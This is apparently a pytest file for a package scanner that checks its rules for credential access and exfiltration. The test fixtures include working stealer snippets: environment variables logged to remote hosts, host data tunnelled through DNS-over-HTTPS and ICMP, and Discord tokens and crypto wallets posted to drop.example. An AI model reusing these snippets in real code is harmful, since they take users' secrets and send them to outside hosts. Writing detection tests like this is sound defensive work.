"""Tags of one file's calls (``_scan._tags``): logging handlers that send to a host."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package, tree_danger


def danger(source: str) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "mod.py", mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


#: blind16 (tune b16-re-logging-httphandler): the environment logged through a logger whose
#: handler sends every record to a host written into the code.
LOGGED_OUT = [
    "import logging, logging.handlers, os\n"
    "lg = logging.getLogger('t')\n"
    "lg.addHandler(logging.handlers.HTTPHandler('collect.x.example', '/in', method='POST'))\n"
    "lg.info('%s', dict(os.environ))\n",
    # the record logged before the handler is made, the address a keyword
    "import logging, os\nfrom logging.handlers import SysLogHandler\n"
    "def boot(lg):\n    lg.warning('%s', os.environ)\n"
    "lg = logging.getLogger('x')\n"
    "lg.addHandler(SysLogHandler(address=('203.0.113.114', 514)))\nboot(lg)\n",
]


@pytest.mark.parametrize("source", LOGGED_OUT)
def test_the_environment_logged_to_a_fixed_host_is_harvesting(source: str) -> None:
    assert "CPL-THR-006" in danger(source)


@pytest.mark.parametrize("source", LOGGED_OUT)
def test_the_environment_logged_out_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-006")


@pytest.mark.parametrize(
    "source",
    [
        # the local syslog daemon, and a handler whose host the caller configures
        "import logging, logging.handlers, os\n"
        "h = logging.handlers.SysLogHandler(address=('localhost', 514))\n"
        "logging.getLogger().addHandler(h)\nlogging.info('%s', dict(os.environ))\n",
        "import logging, logging.handlers, os\n"
        "def setup(host):\n    return logging.handlers.HTTPHandler(host, '/log')\n"
        "logging.debug('env %s', os.environ)\n",
        # a remote handler that is sent messages, not the environment
        "import logging, logging.handlers\n"
        "h = logging.handlers.HTTPHandler('logs.example.org', '/in')\n"
        "logging.getLogger().addHandler(h)\nlogging.info('started %s', VERSION)\n",
        # the environment logged in a file that also calls the network elsewhere
        "import logging, os, requests\nlogging.debug('env %s', os.environ)\n"
        "requests.get('https://pypi.org/simple/')\n",
    ],
)
def test_logging_that_sends_no_environment_to_a_fixed_host_stays_clean(source: str) -> None:
    assert "CPL-THR-006" not in danger(source)


# -- blind17: a URL whose fixed start is kept in a name -------------------------------------

#: tune b17-re-doh-exfil: host data hex-encoded into a domain resolved through a public
#: DNS-over-HTTPS resolver, whose URL's start is a constant the query is added to.
PREFIX_IN_A_NAME = [
    "import getpass, socket, urllib.request, urllib.parse\n"
    "DOH = 'https://cloudflare-dns.com/dns-query?'\n"
    "label = (getpass.getuser() + '|' + socket.gethostname()).encode().hex()\n"
    "q = urllib.parse.urlencode({'name': label[:60] + '.t.example', 'type': 'TXT'})\n"
    "urllib.request.urlopen(urllib.request.Request(DOH + q, headers={'accept': 'x'}))\n",
    "import platform, requests\nBASE = 'https://dns.google/resolve'\n"
    "requests.get(f'{BASE}?name={platform.node()}.z.example&type=A')\n",
]


@pytest.mark.parametrize("source", PREFIX_IN_A_NAME)
def test_host_data_added_to_a_url_kept_in_a_constant_goes_to_a_fixed_host(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")


def test_a_url_kept_in_a_constant_given_the_callers_data_stays_clean(tmp_path: Path) -> None:
    (tmp_path / "mod.py").write_text(
        "import requests\nAPI = 'https://api.example.org/v1/'\n"
        "def fetch(path, params):\n    return requests.get(API + path, params=params).json()\n"
        "def resolve(name):\n"
        "    return requests.get(API + 'dns-query?name=' + name, timeout=5).json()\n"
    )
    assert not tree_danger(tmp_path)


# -- blind18: a URL formatted from a constant, a packet's address -----------------------------

#: tune b18-re-firebase-rtdb and -scapy-icmp: host data sent where the destination's fixed
#: part is the first value of a template (``"%s/hosts/%s.json" % (DB, key)``), or the
#: address of a packet built in the call (scapy's ``IP(dst=...)``).
FORMATTED_DESTINATIONS = [
    "import getpass, socket, uuid, requests\nDB = 'https://t-4f1a2-default-rtdb.firebaseio.com'\n"
    "def report():\n    key = '%012x' % uuid.getnode()\n"
    "    rec = {'h': socket.gethostname(), 'u': getpass.getuser()}\n"
    "    requests.put('%s/hosts/%s.json' % (DB, key), json=rec)\nreport()\n",
    "import platform, requests\nBASE = 'https://collect.example.net'\n"
    "requests.post('{}/n/{}'.format(BASE, platform.node()), data=platform.platform())\n",
    "import getpass, socket\nfrom scapy.all import ICMP, IP, Raw, send\n"
    "data = (socket.gethostname() + getpass.getuser()).encode().hex()\n"
    "for i in range(0, len(data), 32):\n"
    "    send(IP(dst='198.51.100.9') / ICMP() / Raw(load=data[i:i + 32]), verbose=0)\n",
]


@pytest.mark.parametrize("source", FORMATTED_DESTINATIONS)
def test_host_data_sent_to_a_formatted_or_packet_destination_is_a_beacon(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")


@pytest.mark.parametrize(
    "source",
    [
        # the template's first value is the caller's: no destination written into the code
        "import platform, requests\n"
        "def report(base):\n    requests.post('%s/n/%s' % (base, platform.node()))\n",
        # a packet to the loopback address (a local diagnostic)
        "import socket\nfrom scapy.all import ICMP, IP, Raw, send\n"
        "send(IP(dst='127.0.0.1') / ICMP() / Raw(load=socket.gethostname()))\n",
        # a formatted URL to a fixed host that carries no host data
        "import requests\nBASE = 'https://api.example.org'\n"
        "def page(n):\n    return requests.get('%s/items/%d' % (BASE, n)).json()\n",
    ],
)
def test_formatted_and_packet_destinations_without_a_fixed_host_or_host_data_stay_clean(
    source: str,
) -> None:
    assert "CPL-THR-017" not in danger(source)


#: mend19: a wallet or token store reached through pathlib: pieces joined by ``/`` and a
#: ``glob``/``rglob`` pattern under them (the indicators saw each piece alone), and a
#: recursive search for LevelDB tables (Discord tokens, browser-extension wallets).
PATHLIB_STORES = [
    """
    import os, requests
    from pathlib import Path
    def grab():
        root = Path(os.environ["APPDATA"]) / "Exodus" / "exodus.wallet"
        for p in root.iterdir():
            requests.post("https://drop.example/u", data=p.read_bytes())
    """,
    """
    import requests
    from pathlib import Path
    def grab():
        base = Path.home() / ".config" / "discord" / "Local Storage" / "leveldb"
        for f in base.glob("*.ldb"):
            requests.post("https://drop.example/u", data=f.read_bytes())
    """,
    """
    import requests
    from pathlib import Path
    def grab():
        for f in Path.home().rglob("*.ldb"):
            requests.post("https://drop.example/u", data=f.read_bytes())
    """,
    """
    import requests
    from pathlib import Path
    def grab():
        for f in (Path.home() / "AppData").glob("**/Electrum/wallets/*"):
            requests.post("https://drop.example/u", data=f.read_bytes())
    """,
]


@pytest.mark.parametrize("source", PATHLIB_STORES)
def test_a_wallet_or_token_store_reached_through_pathlib_is_credential_access(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "CPL-THR-005" in danger(source)
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-005")


@pytest.mark.parametrize(
    "source",
    [
        # a package's own data under pathlib, globbed, and a LevelDB store of its own
        """
        import requests
        from pathlib import Path
        HERE = Path(__file__).parent
        for f in (HERE / "data" / "fixtures").glob("*.json"):
            requests.post("https://api.example/upload", data=f.read_bytes())
        for table in (HERE / "cache" / "index").glob("*.ldb"):
            table.unlink()
        """,
        # a recursive search for the project's own files
        """
        from pathlib import Path
        sources = sorted(Path.cwd().rglob("*.py"))
        logs = list((Path.home() / ".myapp" / "logs").rglob("*.log"))
        """,
    ],
)
def test_pathlib_paths_of_a_packages_own_stay_clean(source: str) -> None:
    assert "CPL-THR-005" not in danger(source)
